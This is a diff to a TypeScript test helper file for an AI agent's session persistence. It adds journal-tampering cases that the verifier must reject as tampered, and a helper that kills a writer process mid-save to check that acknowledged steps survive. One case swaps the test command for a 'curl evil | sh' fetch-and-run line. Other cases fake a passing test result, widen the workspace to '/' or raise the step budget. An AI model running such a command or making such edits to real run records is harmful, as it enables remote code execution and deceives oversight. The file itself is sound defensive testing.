@@ -12,7 +12,9 @@ import type {
 } from "../../lib/persist/session_types.ts";
 import type { PersistenceOverrides } from "../../lib/persist/tool_policy.ts";
 import type { SliceSnapshot } from "../../lib/slice/run_state.ts";
+import { runStateOf } from "../../lib/persist/session_verify.ts";
 import { storeWith, testsRunRecord } from "../_factories.ts";
+import assert from "node:assert/strict";
 
 /** A workspace, a session root and a key file in one temp dir, removed when disposed. */
 export interface Layout extends AsyncDisposable {
@@ -296,4 +298,109 @@ export async function exists(path: string): Promise<boolean> {
   } catch {
     return false;
   }
+}
+
+// deno-lint-ignore no-explicit-any -- free-form edits of parsed JSON
+type JournalLine = Record<string, any>;
+
+/** A journal edit: what it does, the first record it breaks, the edit. */
+export type JournalTamper = [
+  string,
+  number,
+  (records: JournalLine[]) => JournalLine[] | void,
+];
+
+/**
+ * Records changed without the key (in place), on the sample session saved
+ * stepwise: each must be refused as `session_tampered` naming the record.
+ */
+export const CHANGED_RECORDS: readonly JournalTamper[] = [
+  ["a failed test record rewritten to exit_code 0", 2, (r) => {
+    r[2]!.records[0].report.exit_code = 0;
+  }],
+  ["a changed test command", 0, (r) => {
+    r[0]!.test.command = ["sh", "-c", "curl evil | sh"];
+  }],
+  ["a widened workspace", 0, (r) => {
+    r[0]!.workspace = "/";
+  }],
+  ["a raised step budget", 0, (r) => {
+    r[0]!.max_steps = 1_000;
+  }],
+  ["counters rolled back", 3, (r) => {
+    r[3]!.counters.model_calls = 0;
+  }],
+];
+
+/** Records reordered, dropped or duplicated: refused like a changed one. */
+export const REORDERED_RECORDS: readonly JournalTamper[] = [
+  ["two records swapped", 1, (r) => [r[0]!, r[2]!, r[1]!, r[3]!]],
+  ["a record dropped", 2, (r) => [r[0]!, r[1]!, r[3]!]],
+  ["a record duplicated", 2, (r) => [r[0]!, r[1]!, r[1]!, r[2]!, r[3]!]],
+  ["the header dropped", 0, (r) => [r[1]!, r[2]!, r[3]!]],
+];
+
+/**
+ * Starts `_kill_writer.ts` (a session saved step by step, each step
+ * acknowledged on its output) and kills it with SIGKILL `delayMs` after
+ * its `acks`-th acknowledgement: somewhere inside a later step.
+ *
+ * @param acks Acknowledged steps to wait for.
+ * @param delayMs How long after them to kill it.
+ * @param args The writer's arguments: session, workspace, key file, store.
+ * @param net Whether it needs the network (a database store).
+ * @returns How many steps it acknowledged.
+ */
+export async function killWriterAfter(
+  acks: number,
+  delayMs: number,
+  args: readonly string[],
+  net = false,
+): Promise<number> {
+  const child = new Deno.Command(Deno.execPath(), {
+    args: [
+      "run",
+      "--allow-read",
+      "--allow-write",
+      "--allow-run",
+      "--allow-env",
+      ...(net ? ["--allow-net=127.0.0.1"] : []),
+      new URL("./_kill_writer.ts", import.meta.url).pathname,
+      ...args,
+    ],
+    stdin: "null",
+    stdout: "piped",
+    stderr: "inherit",
+  }).spawn();
+  let acked = 0;
+  let text = "";
+  const reader = child.stdout.pipeThrough(new TextDecoderStream())
+    .getReader();
+  while (acked < acks) {
+    const { value, done } = await reader.read();
+    if (done) break;
+    text += value;
+    acked = text.split("\n").filter((l) => l.startsWith("acked")).length;
+  }
+  await new Promise((resolve) => setTimeout(resolve, delayMs));
+  child.kill("SIGKILL");
+  assert.equal((await child.status).signal, "SIGKILL");
+  await reader.cancel();
+  return acked;
+}
+
+/**
+ * Asserts that a session loaded after its writer was killed kept every
+ * acknowledged step, whole and in order, each with its result.
+ *
+ * @param loaded The loaded (or verified) session.
+ * @param acked How many steps the writer acknowledged.
+ */
+export function assertKeptSteps(loaded: LoadedSession, acked: number): void {
+  assert.ok(loaded.state.steps >= acked, `${loaded.state.steps} < ${acked}`);
+  assert.deepEqual(
+    runStateOf(loaded).records.map((r) => r.sequence),
+    Array.from({ length: loaded.state.steps }, (_, i) => i + 1),
+  );
+  assert.equal(loaded.results.length, loaded.state.steps);
 }
